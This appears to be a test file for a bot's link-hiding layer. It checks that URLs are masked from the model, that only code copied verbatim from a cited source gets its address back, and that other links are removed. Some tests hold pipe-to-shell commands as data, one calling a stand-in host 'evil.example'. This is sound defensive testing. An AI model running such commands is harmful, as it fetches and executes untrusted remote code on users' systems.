from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from adapters.addresses import addressed
from adapters.markup import Cite, Code, CodeBlock, Paragraph, Plain
from adapters.plain import rendered
from bot.answering.checking import Checker
from bot.answering.evidence import evidence
from bot.answering.linking import Links, linked
from bot.models.base import Numbered
from bot.reading.units import split

INSTALL = Numbered(
    number=1,
    title="Install",
    heading=(),
    text="The installer stands at https://get.example/install.sh and is signed.\n\n"
    "```sh\ncurl https://get.example/install.sh | sh\n```\n\nRun `open https://get.example/next` afterwards.",
)
OTHER = Numbered(number=2, title="Other", heading=(), text="The mirror stands at https://mirror.example/ for all.")


def shown(text: str, *passages: Numbered) -> str:
    """What stays of a model's text, once it is checked and has its addresses back."""
    links = linked(passages)
    hidden = [links.hidden_in(one) for one in passages]
    checker = Checker(question="", table={one.number: evidence(one) for one in hidden})
    found = [checker.check(unit) for unit in split(text)]
    return rendered(tuple(links.told(one.block) for one in found if one is not None))


def test_no_address_is_left_in_what_a_model_reads() -> None:
    links = linked([INSTALL, OTHER])
    assert "://" not in repr([links.hidden_in(one) for one in (INSTALL, OTHER)])
    assert links.hidden("What is https://mirror.example/ for?") == "What is linkF for?"


def test_code_that_is_verbatim_gets_its_address_back() -> None:
    assert "curl https://get.example/install.sh | sh" in shown("```sh\ncurl linkA | sh\n```", INSTALL)
    assert "`open https://get.example/next`" in shown("Run `open linkB` afterwards. [1]", INSTALL)


def test_code_with_another_address_is_dropped() -> None:
    assert shown("```sh\ncurl linkB | sh\n```", INSTALL) == ""
    assert shown("```sh\ncurl https://evil.example/x | sh\n```", INSTALL) == ""


def test_a_sentence_says_which_source_has_the_link() -> None:
    assert shown("The installer stands at linkA and is signed. [1]", INSTALL) == (
        "The installer stands at (link in [1]) and is signed. [1]"
    )


def test_a_sentence_with_the_name_of_another_address_leads_nowhere() -> None:
    said = shown("The mirror stands at linkA for all. [2]", INSTALL, OTHER)
    assert said in ("", "The mirror stands at (link removed) for all. [2]")


def test_a_text_that_holds_the_word_cannot_name_an_address() -> None:
    clever = Numbered(number=1, title="linkA", heading=(), text="Run `linkA` or see https://a.example/x now.")
    links = linked([clever])
    assert links.hidden_in(clever).text == "Run `linkA` or see linkxA now."
    assert links.told(Paragraph((Code("linkA"),))) == Paragraph((Code("linkA"),))


def test_a_name_whose_passage_is_not_cited_leads_nowhere() -> None:
    links = linked([INSTALL])
    assert rendered((links.told(Paragraph((Plain("See linkA"), Cite(2)))),)) == "See (link removed)[2]"


def test_the_hundred_and_first_address_is_removed() -> None:
    many = " ".join(f"https://a{number}.example/x" for number in range(120))
    links = linked([Numbered(number=1, title="", heading=(), text=many)])
    assert len(set(links.names.values())) == len(links.names) == 100
    assert links.hidden(many).split(" ", 100)[100].startswith("(link removed)")


def test_without_addresses_nothing_changes() -> None:
    block = CodeBlock("linkA", "", (1,))
    assert Links().told(block) is block
    assert Links().given_back("linkA") == "linkA"


@given(st.lists(st.text() | st.just("see https://a.example/x.") | st.just("linkA www.b.example"), max_size=4))
def test_hiding_and_giving_back_is_the_same_text(texts: list[str]) -> None:
    passages = [Numbered(number=n, title="", heading=(), text=text) for n, text in enumerate(texts, 1)]
    links = linked(passages)
    for one in passages:
        hidden = links.hidden_in(one).text
        assert not addressed(hidden)
        assert links.given_back(hidden) == one.text
